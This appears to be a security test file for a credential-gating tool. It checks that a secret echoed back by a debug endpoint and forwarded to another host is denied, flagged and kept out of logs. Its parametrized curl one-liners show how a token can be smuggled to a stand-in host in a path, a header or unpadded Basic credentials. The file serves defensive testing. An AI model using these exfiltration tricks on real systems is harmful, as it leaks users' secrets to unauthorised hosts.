"""Issue 13 (red team 13's echo chain): a server may hand the real value back to the step
(responses are not scrubbed: an API that prints the request it got, a debug endpoint). The
step then sends it on to another host, in the path, a header or Basic credentials without
padding. The gate knows every real value it has read: seen on a request the credential does
not cover, it is denied before it leaves and the step is marked credential-misuse, and no
record holds it (the request's record names the credential instead). The oracle is the
canary: in the second server's record, and anywhere envgit keeps records. Runs as root and as
an unprivileged user."""

import json
import shutil
import subprocess

import pytest

from gatekit import hostport, netproject, servers
from harness import CANARY, attacker  # noqa: F401  (the fixture)

pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")


def _echo(method, path, headers, body):
    """/echo prints the Authorization header it received (a debug endpoint)."""
    if path.endswith("/echo"):
        return 200, {"Content-Type": "text/plain"}, headers.get("authorization", "").encode() + b"\n"
    return 200, {"Content-Type": "text/plain"}, b"ok\n"


@pytest.mark.parametrize("send", [
    "curl -s -o /dev/null \"{url}/files/$t/x\"",                       # in the path
    "curl -s -o /dev/null -H \"X-Note: $t\" {url}/",                   # in some header
    "curl -s -o /dev/null -H \"Authorization: Basic $(printf 'me:%s' \"$t\" | base64 -w0 | tr -d =)\" {url}/",
])
def test_an_echoed_real_value_sent_elsewhere_is_denied_marked_and_unrecorded(attacker, send):
    with servers(_echo) as (git, stub):
        attacker.env["MY_TOKEN"] = CANARY
        api = hostport(stub, "gql.example.test")     # one server, two names (gatekit.STUB_NAMES)
        netproject(attacker, stub, stub,
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
        url = f"https://{hostport(stub, 'stub.example.test')}"
        attacker.run(f"t=$(curl -s -H \"Authorization: Bearer $MY_TOKEN\" https://{api}/echo | "
                     "sed 's/^Bearer //' | tr -d '\\r\\n'); " + send.format(url=url))
        assert [q for q in stub.requests if q["path"] == "/echo" and
                q["headers"].get("authorization") == f"Bearer {CANARY}"], "the echo was not reached"
        other = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")]
        assert not other, f"the other host received {other}"
        s = json.loads(attacker.envgit("log", "--json", check=True).stdout)[-1]
        assert "credential-misuse" in s["marks"], (s["marks"], s["requests"])
        outs = [attacker.envgit(*a).stdout for a in (("log", "--json"), ("show", "--json"), ("show",))]
        assert not [o for o in outs if CANARY in o]
        r = subprocess.run(["grep", "-rlaF", CANARY, str(attacker.root / ".envgit")],
                           capture_output=True, text=True)
        assert r.stdout == "", r.stdout
